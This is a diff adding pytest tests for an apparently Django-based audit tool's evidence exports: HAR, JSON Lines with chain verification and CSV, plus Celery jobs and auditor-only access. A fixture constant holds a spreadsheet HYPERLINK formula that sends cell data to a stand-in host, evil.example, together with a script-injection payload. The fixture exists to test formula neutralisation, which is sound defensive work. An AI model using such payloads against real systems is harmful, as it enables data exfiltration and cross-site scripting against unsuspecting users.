@@ -1,0 +1,227 @@
+"""Evidence exports: HAR 1.2 (read back by mitmproxy), JSON Lines with chain proof, CSV,
+run inline or as Celery jobs, downloadable only by the auditor who asked."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import time
+from pathlib import Path
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+
+from approvals.models import ApprovalRequest, Decision
+from audit.chain import anchor, verify_evidence
+from audit.models import AuditJob, Exchange, Session
+from audit.tasks import run_job
+from tests.audit.conftest import make_exchange
+
+pytestmark = pytest.mark.django_db
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1)<script>alert(1)</script>'
+
+
+@pytest.fixture(autouse=True)
+def export_dir(settings, tmp_path):
+    settings.GATEHOUSE_EXPORT_DIR = tmp_path / "exports"
+    return settings.GATEHOUSE_EXPORT_DIR
+
+
+@pytest.fixture
+def recorded(policy, ingest, users):
+    """A session of three exchanges: allowed+masked, approved (by approver), denied."""
+    t0 = time.time() - 60
+    approval_id = "6f1c2b7e-0000-4000-8000-000000000001"
+    req = ApprovalRequest.objects.create(
+        id=approval_id,
+        agent=policy.agent,
+        target=policy.target,
+        rule=policy.approve_rule,
+        worker_id="w1",
+        method="GET",
+        url="http://127.0.0.1:9/export",
+        requested_at=timezone.now(),
+        deadline=timezone.now(),
+        status="approved",
+    )
+    Decision.objects.create(approval_request=req, user=users["approver"], verdict="approve")
+    msgs = [
+        make_exchange(policy, at=t0, session_key="s1"),
+        make_exchange(
+            policy,
+            at=t0 + 1,
+            session_key="s1",
+            method="POST",
+            url="http://127.0.0.1:9/export?fmt=csv",
+            request_headers={"content-type": "application/json"},
+            request_body='{"who": "[EMAIL]"}',
+            request_findings=[{"type": "EMAIL", "location": "$.who", "count": 1}],
+            decision="approved",
+            approval_id=approval_id,
+            rule_id=policy.approve_rule.id,
+        ),
+        make_exchange(
+            policy,
+            at=t0 + 2,
+            session_key="s1",
+            url="http://127.0.0.1:9/db?sql=select+*+from+sqlite_master&note=" + EVIL,
+            status_code=403,
+            response_body='{"error": "denied"}',
+            response_findings=[],
+            decision="denied",
+            rule_id=policy.deny_rule.id,
+        ),
+    ]
+    ingest(*msgs)
+    anchor()
+    return Session.objects.get(key="s1"), msgs
+
+
+def _export(client, fmt, **data):
+    r = client.post(reverse("audit:export"), {"format": fmt, **data})
+    assert r.status_code == 302, r.content
+    job = AuditJob.objects.latest("pk")
+    assert r["Location"] == reverse("audit:job", args=[job.pk])
+    return job
+
+
+def _download(client, job) -> bytes:
+    r = client.get(reverse("audit:job_download", args=[job.pk]))
+    assert r.status_code == 200
+    assert "attachment" in r["Content-Disposition"]
+    return b"".join(r.streaming_content)
+
+
+def test_it_exports_a_session_as_har_that_mitmproxy_reads(client, users, recorded, tmp_path):
+    session, msgs = recorded
+    client.force_login(users["auditor"])
+    job = _export(client, "har", session=session.pk)
+    assert job.status == "done" and job.result["count"] == 3
+    body = _download(client, job)
+    har = json.loads(body)
+    log = har["log"]
+    assert log["version"] == "1.2" and log["creator"]["name"] == "Gatehouse"
+    assert [p["id"] for p in log["pages"]] == [f"session-{session.pk}"]
+    e = log["entries"][1]
+    for key in ("startedDateTime", "time", "request", "response", "cache", "timings"):
+        assert key in e
+    assert e["request"]["postData"]["text"] == '{"who": "[EMAIL]"}'
+    assert {"name": "fmt", "value": "csv"} in e["request"]["queryString"]
+    assert e["response"]["content"]["mimeType"] == "application/json"
+    assert e["time"] == sum(v for v in e["timings"].values() if v >= 0)
+    assert e["_gatehouse"]["approvers"][0]["user"] == "approver"
+    assert e["_gatehouse"]["decision"] == "approved"
+    # mitmproxy's own reader (what `mitmproxy -r export.har` uses) loads every entry.
+    from mitmproxy.io import FlowReader
+
+    path = tmp_path / "x.har"
+    path.write_bytes(body)
+    with open(path, "rb") as f:
+        flows = list(FlowReader(f).stream())
+    assert [fl.request.method for fl in flows] == ["GET", "POST", "GET"]
+    assert flows[1].request.get_text() == '{"who": "[EMAIL]"}'
+    assert flows[2].response.status_code == 403
+    assert "[EMAIL]" in flows[0].response.get_text()
+
+
+def test_jsonl_carries_every_field_and_a_chain_proof_that_verifies(client, users, recorded):
+    session, msgs = recorded
+    client.force_login(users["auditor"])
+    job = _export(client, "jsonl", session=session.pk)
+    lines = _download(client, job).decode().splitlines()
+    header, *items, footer = (json.loads(line) for line in lines)
+    assert header["type"] == "header" and header["scope"] == {"session": session.pk}
+    assert footer["type"] == "footer" and footer["count"] == 3 and footer["anchor"]
+    x = items[1]["exchange"]
+    for field in ("request_headers", "request_body", "response_body", "timings", "approval_id"):
+        assert field in x
+    assert items[1]["facts"]["approvers"][0]["user"] == "approver"
+    assert items[1]["chain"]["payload"]["exchange_id"] == x["id"]
+    assert verify_evidence(lines) == []
+    # Editing an exported body (a forged piece of evidence) is detected offline.
+    forged = json.loads(lines[2])
+    forged["exchange"]["request_body"] = '{"who": "ana@example.com"}'
+    bad = [lines[0], lines[1], json.dumps(forged), *lines[3:]]
+    assert verify_evidence(bad) == ["line 3: exchange differs from its recorded digest"]
+
+
+def test_csv_summary_neutralises_formulas(client, users, recorded):
+    session, msgs = recorded
+    client.force_login(users["auditor"])
+    job = _export(client, "csv", session=session.pk)
+    rows = list(csv.DictReader(io.StringIO(_download(client, job).decode())))
+    assert [r["decision"] for r in rows] == ["allowed", "approved", "denied"]
+    assert rows[1]["approvers"] == "approver:approve"
+    assert rows[0]["masked_types"] == "EMAIL PHONE"
+    assert rows[2]["rule"] == "no schema" and rows[2]["chain_seq"]
+    # Cells are never formulas (the URL does not start with '=' but a rule could).
+    from audit.exports import csv_safe
+
+    assert csv_safe("=1+1") == "'=1+1" and csv_safe("@SUM(A1)") == "'@SUM(A1)"
+    assert csv_safe("http://x") == "http://x"
+
+
+def test_it_exports_search_results(client, users, recorded):
+    client.force_login(users["auditor"])
+    job = _export(client, "csv", q="sqlite_master", decision="denied")
+    assert job.params == {"search": {"q": "sqlite_master", "decision": "denied"}}
+    rows = list(csv.DictReader(io.StringIO(_download(client, job).decode())))
+    assert len(rows) == 1 and rows[0]["decision"] == "denied"
+
+
+def test_large_exports_run_as_celery_jobs_with_progress(
+    client, users, recorded, settings, django_capture_on_commit_callbacks, monkeypatch
+):
+    settings.GATEHOUSE_EXPORT_SYNC_LIMIT = 1
+    queued: list[int] = []
+    monkeypatch.setattr(run_job, "delay", lambda job_id: queued.append(job_id))
+    session, _ = recorded
+    client.force_login(users["auditor"])
+    with django_capture_on_commit_callbacks(execute=True):
+        job = _export(client, "jsonl", session=session.pk)
+    assert queued == [job.pk] and job.status == "queued" and job.total == 3
+    page = client.get(reverse("audit:job", args=[job.pk])).content.decode()
+    assert 'hx-trigger="every 1s"' in page and "0 of 3" in page
+    assert client.get(reverse("audit:job_download", args=[job.pk])).status_code == 404
+    assert run_job(job.pk) == "done"  # what the Celery worker runs
+    fragment = client.get(reverse("audit:job", args=[job.pk]), HTTP_HX_REQUEST="true")
+    html = fragment.content.decode()
+    assert "hx-trigger" not in html and 'id="download"' in html and "<html" not in html
+    assert run_job(job.pk) == "done"  # a redelivered task does not run the job twice
+    assert len(_download(client, job).decode().splitlines()) == 5
+
+
+def test_jobs_and_files_are_private_to_their_auditor(client, users, recorded, export_dir):
+    session, _ = recorded
+    client.force_login(users["auditor"])
+    job = _export(client, "har", session=session.pk)
+    assert Path(export_dir, job.file_name).is_file()
+    from django.contrib.auth.models import Group, User
+
+    other = User.objects.create_user("auditor2")
+    other.groups.add(Group.objects.get(name="auditor"))
+    client.force_login(other)
+    assert client.get(reverse("audit:job", args=[job.pk])).status_code == 404
+    assert client.get(reverse("audit:job_download", args=[job.pk])).status_code == 404
+    for who in ("approver", "admin", "outsider"):
+        client.force_login(users[who])
+        assert client.get(reverse("audit:job_download", args=[job.pk])).status_code == 403
+        r = client.post(reverse("audit:export"), {"format": "har", "session": session.pk})
+        assert r.status_code == 403
+    client.logout()
+    r = client.get(reverse("audit:job_download", args=[job.pk]))
+    assert r.status_code == 302 and "/accounts/login/" in r["Location"]
+
+
+def test_export_rejects_bad_input(client, users, recorded):
+    client.force_login(users["auditor"])
+    assert client.post(reverse("audit:export"), {"format": "pdf"}).status_code == 400
+    r = client.post(reverse("audit:export"), {"format": "har", "session": "999999"})
+    assert r.status_code == 404
+    r = client.post(reverse("audit:export"), {"format": "har", "status": "9999"})
+    assert r.status_code == 400
+    assert client.get(reverse("audit:export")).status_code == 405
+    assert Exchange.objects.count() == 3
